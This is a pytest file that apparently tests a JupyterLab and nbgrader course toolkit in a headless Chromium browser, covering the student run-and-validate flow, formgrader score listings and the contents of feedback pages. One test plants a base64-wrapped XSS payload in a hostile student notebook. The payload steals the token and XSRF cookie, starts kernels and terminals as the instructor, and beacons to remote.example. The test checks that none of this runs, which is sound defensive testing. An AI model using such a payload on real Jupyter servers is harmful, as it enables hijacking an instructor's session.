"""The student's and the instructor's flow in JupyterLab, in a real Chromium (Playwright driving
Debian's ``chromium``), on a throw-away copy of the course. Screenshots of every step are saved in
``test-output/browser/`` for a reviewer."""
import base64
import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from playwright.sync_api import sync_playwright
from support import ROOT, answers, variants, write_submission

from ddsp_course.cli import main
from ddsp_course.course import Course
from ddsp_course.grade.cases import load_cases

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None:  # ./course installs it; a machine without it cannot run these tests
    pytest.fail("chromium is not installed (./course installs it with apt-get)", pytrace=False)

A = "ps01_pytorch_basics"
TOKEN = "ddsp-course-browser-test"
SHOTS = os.path.join(ROOT, "test-output", "browser")
WRONG = "derivative_at"  # the wrong student returns f(x0) where f'(x0) is asked for
WRONG_SOURCE = "def derivative_at(f, x0):\n    return float(f(torch.as_tensor(x0)))\n"
REMOTE = "remote.example"
# What a hostile student's notebook tries in the instructor's browser: mark the page, run code as the
# instructor (a kernel or a terminal through Jupyter's REST API, with the XSRF cookie or the page's
# token) and call a remote host.
PAYLOAD = ("window.__pwned = 1; document.title = 'pwned'; localStorage.setItem('pwned', '1');"
           "const token = new URLSearchParams(location.search).get('token') || '';"
           "const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';"
           "for (const api of ['api/kernels', 'api/terminals']) fetch('/' + api + '?token=' + token, {method: 'POST', "
           "headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'}, body: '{}'});"
           f"new Image().src = 'http://{REMOTE}/beacon.png';")
RUN = f"eval(atob('{base64.b64encode(PAYLOAD.encode()).decode()}'))"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Lab:
    """``ddsp-course lab [ASSIGNMENT]`` on a free loopback port, with its own runtime folder."""

    def __init__(self, course_root: str, assignment: str | None):
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        args = [sys.executable, "-m", "ddsp_course.cli", "--course", course_root, "lab",
                *([assignment] if assignment else []), "--port", str(self.port), "--no-browser"]
        self.root = course_root
        env = dict(os.environ, JUPYTER_TOKEN=TOKEN, JUPYTER_CONFIG_DIR=os.path.join(course_root, ".jupyter"),
                   JUPYTER_RUNTIME_DIR=os.path.join(course_root, ".jupyter", "runtime"))
        self.log = open(os.path.join(course_root, f"lab-{assignment or 'course'}.log"), "w")
        self.proc = subprocess.Popen(args, env=env, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)
        deadline = time.monotonic() + 90
        while True:
            try:
                self.api("GET", "api/status")
                return
            except OSError:
                if self.proc.poll() is not None or time.monotonic() > deadline:
                    self.stop()
                    raise RuntimeError(f"JupyterLab did not start; see {self.log.name}")
                time.sleep(0.5)

    def api(self, method: str, path: str, body: dict | None = None) -> dict:
        request = urllib.request.Request(f"{self.url}/{path}", method=method,
                                         data=None if body is None else json.dumps(body).encode(),
                                         headers={"Authorization": f"token {TOKEN}",
                                                  "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=10) as response:
            return json.loads(response.read() or b"{}")

    def stop(self) -> None:
        """Shut the server and its kernels down; kill whatever is left (kernels run in their own sessions)."""
        try:
            self.api("POST", "api/shutdown")
            self.proc.wait(timeout=30)
        except (OSError, subprocess.TimeoutExpired):
            pass
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    mine = self.root.encode() in f.read()  # the server, its launcher and its kernels
                if mine or pid == self.proc.pid:
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        self.proc.wait()
        self.log.close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


def _shot(page, name: str) -> None:
    os.makedirs(SHOTS, exist_ok=True)
    page.screenshot(path=os.path.join(SHOTS, f"{name}.png"), full_page=False)


def _put_answers(lab: Lab, sources: dict[str, str]) -> None:
    """Write the student's answers into their notebook through Jupyter's contents API."""
    model = lab.api("GET", f"api/contents/{A}.ipynb?content=1")
    for cell in model["content"]["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in sources:
            cell["source"] = sources[grade_id]
        if cell["cell_type"] == "code":  # a fresh start: no outputs or prompts from an earlier run
            cell["outputs"], cell["execution_count"] = [], None
    lab.api("PUT", f"api/contents/{A}.ipynb", {"type": "notebook", "format": "json", "content": model["content"]})


def _open_and_run_all(page, lab: Lab) -> None:
    page.goto(f"{lab.url}/lab/tree/{A}.ipynb?token={TOKEN}")
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=90_000)
    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=90_000)
    page.get_by_title("Restart the kernel and run all cells").first.click()
    page.locator(".jp-Dialog .jp-mod-accept").click()
    page.wait_for_function(  # a prompt shows [*] while its cell waits or runs
        """() => { const p = [...document.querySelectorAll('.jp-CodeCell .jp-InputPrompt')].map(e => e.textContent);
                   return p.length > 0 && !p.some(t => t.includes('*')) && p.some(t => /\\d/.test(t)); }""",
        timeout=120_000)


def _errors(page) -> list[str]:
    """Tracebacks shown in the notebook (the first one scrolled into view for the screenshot)."""
    errors = page.locator(".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']")
    if errors.count():
        errors.first.scroll_into_view_if_needed()
    return errors.all_text_contents()


def _validate(page) -> str:
    page.get_by_role("button", name="Validate").first.click()
    dialog = page.locator(".jp-Dialog")
    dialog.wait_for(timeout=120_000)
    page.wait_for_function("() => !document.querySelector('.jp-Dialog').innerText.includes('Validating')",
                           timeout=120_000)
    text = dialog.inner_text()
    return text


@pytest.fixture(scope="module")
def course_copy(tmp_path_factory):
    from conftest import copy_course
    return copy_course(str(tmp_path_factory.mktemp("browser") / "course"))


def test_student_flow_correct_and_wrong(course_copy, page):
    lab = Lab(course_copy, A)
    try:
        _put_answers(lab, answers(A))
        _open_and_run_all(page, lab)
        _shot(page, "1-student-correct-run-all")
        assert _errors(page) == [], "a correct implementation runs without errors"
        figures = page.locator(".jp-RenderedImage img")
        assert figures.count() > 0
        box = figures.first.bounding_box()
        assert box and box["width"] > 0 and box["height"] > 0, "figures render with a size"
        assert page.locator(".jp-OutputArea audio").count() > 0, "audio players render"
        text = _validate(page)
        _shot(page, "2-student-correct-validate")
        assert "Success" in text and "passes all the tests" in text, text
        page.locator(".jp-Dialog").get_by_role("button").last.click()

        wrong = dict(answers(A), **{WRONG: WRONG_SOURCE})
        _put_answers(lab, wrong)
        _open_and_run_all(page, lab)
        errors = _errors(page)
        _shot(page, "3-student-wrong-run-all")
        assert errors and "d/dx (x^2 - 3x + 1) at 2 differs from the expected values" in errors[0], errors
        text = _validate(page)
        _shot(page, "4-student-wrong-validate")
        assert "The following cell failed" in text and "derivative_at(lambda x" in text, text
        assert "differs from the expected values" in text, "Validate shows the test's own message"
    finally:
        lab.stop()


def write_hostile(course: Course, folder: str, student: str) -> None:
    """A correct submission that also carries ``PAYLOAD`` in markdown, in stored outputs, in a raw
    cell and in the name of an exception its own cell raises (shown in the grading notes)."""
    write_submission(course, A, folder, student, answers(A))
    path = os.path.join(folder, student, A, f"{A}.ipynb")
    nb = nbformat.read(path, as_version=4)
    nb.cells.insert(1, new_markdown_cell(f"<script>{PAYLOAD}</script>\n\n<img src=x onerror=\"{RUN}\">\n\n"
                                         f"![](http://{REMOTE}/markdown.png) [notes](javascript:{RUN})"))
    nb.cells.append(nbformat.v4.new_raw_cell(f"<img src=x onerror=\"{RUN}\">", metadata={"raw_mimetype": "text/html"}))
    nb.cells.append(new_code_cell(f"raise type('![](http://{REMOTE}/ename.png)', (Exception,), {{}})()", outputs=[
        new_output("display_data", data={"text/html": f"<script>{PAYLOAD}</script><img src=x onerror=\"{RUN}\">"}),
        new_output("display_data", data={"application/javascript": PAYLOAD})]))
    nbformat.write(nb, path)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course copy with every assignment released and ps01 graded: ada correct; bob returns f(x0)
    from derivative_at and forgets zero_grad in gradient_descent; eve correct, with a payload for
    the instructor's browser."""
    from conftest import copy_course
    root = copy_course(str(tmp_path_factory.mktemp("graded") / "course"))
    course, subs = Course(root), os.path.join(root, "incoming")
    bob = dict(answers(A), **{WRONG: WRONG_SOURCE},
               gradient_descent=variants(A)["gradient_descent"]["wrong"]["no_zero_grad"])
    write_submission(course, A, subs, "ada", answers(A))
    write_submission(course, A, subs, "bob", bob)
    write_hostile(course, subs, "eve")
    assert main(["--course", root, "release"]) == 0
    assert main(["--course", root, "grade", A, "--submissions", subs, "--no-progress"]) == 0
    return course, bob


def test_formgrader_lists_assignments_and_scores(graded, page):
    course, _ = graded
    lab = Lab(course.root, None)
    try:
        page.goto(f"{lab.url}/formgrader?token={TOKEN}")
        page.wait_for_selector("text=ps11_waveguide", timeout=60_000)
        _shot(page, "5-formgrader-assignments")
        listed = page.inner_text("body")
        for assignment in course.assignments:
            assert assignment in listed
        row = page.locator("tr", has_text=A).first.inner_text()
        assert row.split()[-1] == "3", f"three submissions of {A} are counted: {row!r}"
        page.goto(f"{lab.url}/formgrader/manage_submissions/{A}?token={TOKEN}")
        page.wait_for_selector("text=bob", timeout=60_000)
        _shot(page, "6-formgrader-submissions")
        with open(course.path("grades", f"{A}.csv")) as f:
            totals = {row["student"]: row for row in csv.DictReader(f)}
        for student in ("ada", "bob"):
            row = page.locator("tr", has_text=student).first.inner_text()
            expected = f"{float(totals[student]['total']):g} / {float(totals[student]['max_total']):g}"
            assert "graded" in row and expected in row, (row, expected)
        assert totals["ada"]["total"] != totals["bob"]["total"]
    finally:
        lab.stop()


def test_feedback_page_summary_figures_and_no_leaks(graded, page):
    course, bob = graded
    page.set_viewport_size({"width": 480, "height": 900})  # a narrow window
    page.goto("file://" + course.path("feedback", "bob", A, f"{A}.html"))
    _shot(page, "7-feedback-summary")
    summary = page.locator("table").first
    rows = [r.split("\t") for r in summary.inner_text().splitlines()]
    assert rows[0] == ["test", "points", "passed"]
    with open(course.path("grades", f"{A}.csv")) as f:
        grades = {row["student"]: row for row in csv.DictReader(f)}["bob"]
    for test, points, passed in rows[1:]:
        score, maximum = (float(x) for x in points.replace("\xa0", " ").split(" / "))
        assert score == float(grades[test]) and passed == ("yes" if score == maximum else "no"), (test, points)
    assert [r[0] for r in rows[1:]] == [f"test_{f}" for f in ("derivative_at", "gradient_descent", "fit_line")]

    figures = page.locator("figure img")
    assert figures.count() >= 1, "a failed visible comparison is drawn"
    figures.first.scroll_into_view_if_needed()
    _shot(page, "8-feedback-figure")
    for i in range(figures.count()):
        box = figures.nth(i).bounding_box()
        assert box and box["width"] > 0 and box["height"] > 0
    visible = {c.name for c in load_cases(course.root, A).cases if c.visible}
    for caption in page.locator("figure figcaption").all_inner_texts():
        assert caption.split(": your output")[0] in visible, f"figures only for visible cases: {caption}"

    text = page.inner_text("body")
    own = "\n".join(bob.values())
    with open(course.released(A)) as f:
        public = f.read() + own  # lines the student saw or wrote may appear
    with open(course.path("source", A, "hidden_cases.py")) as f:
        hidden = [line.strip() for line in f if len(line.strip()) >= 20 and not line.strip().startswith("#")
                  and line.strip() not in public]
    assert hidden and not [line for line in hidden if line in text], "hidden-test source in the feedback"
    solution = [line.strip() for f in (WRONG, "gradient_descent") for line in answers(A)[f].splitlines()
                if len(line.strip()) >= 20 and line.strip() not in own]
    assert solution and not [line for line in solution if line in text], "solution code in the feedback"


def _visit(page, url: str) -> set[str]:
    """Open ``url`` (refusing every request that leaves this machine) and give a payload time to act;
    the remote URLs asked for."""
    remote = set()

    def watch(request):
        if urllib.parse.urlsplit(request.url).hostname not in (None, "", "127.0.0.1", "localhost"):
            remote.add(request.url)
    page.on("request", watch)
    page.route(lambda url: urllib.parse.urlsplit(url).hostname not in (None, "", "127.0.0.1", "localhost"),
               lambda route: route.abort())
    page.goto(url)
    page.wait_for_load_state("load")
    page.wait_for_timeout(3000)
    page.unroute_all()
    return remote


def _untouched(page) -> list[bool]:
    return page.evaluate("() => [window.__pwned === undefined, !document.title.includes('pwned'), "
                         "localStorage.getItem('pwned') === null]")


def _running(lab: Lab) -> dict[str, set[str]]:
    """The kernels, sessions and terminals of the server, by id (terminals: none if not served)."""
    running = {}
    for api in ("api/kernels", "api/sessions", "api/terminals"):
        try:
            running[api] = {item["id"] if "id" in item else item["name"] for item in lab.api("GET", api)}
        except urllib.error.HTTPError:
            running[api] = set()
    return running


def test_hostile_submission_runs_nothing_in_formgrader_or_feedback(graded, browser):
    """eve's payload, opened where the instructor grades by hand and in her feedback page, neither
    runs (no canary set, no kernel or terminal started) nor calls out (no remote request but those
    the same page makes for ada's clean submission: nbgrader's template loads MathJax from a CDN)."""
    from nbgrader.api import Gradebook

    course, _ = graded
    with Gradebook(course.db_url) as gb:
        ids = {s: gb.find_submission_notebook(A, A, s).id for s in ("ada", "eve")}
    lab = Lab(course.root, None)
    try:
        before = _running(lab)
        for view, url in [("formgrader", f"{lab.url}/formgrader/submissions/{{}}/?token={TOKEN}"),
                          ("feedback", "file://" + course.path("feedback", "{}", A, f"{A}.html"))]:
            pages = {}
            for student in ("ada", "eve"):
                context = browser.new_context(viewport={"width": 1280, "height": 900})
                page = context.new_page()
                remote = _visit(page, url.format(ids[student] if view == "formgrader" else student))
                pages[student] = (remote, _untouched(page), page.inner_text("body"))
                _shot(page, f"9-{view}-{student}")
                context.close()
            remote, untouched, text = pages["eve"]
            assert untouched == [True, True, True], f"the payload ran in the {view} page"
            assert remote <= pages["ada"][0], f"the {view} page called out: {remote - pages['ada'][0]}"
            assert f"![](http://{REMOTE}/ename.png)" in text, "the exception's name is shown as written"
        assert _running(lab) == before, "the payload started a kernel or a terminal as the instructor"
    finally:
        lab.stop()
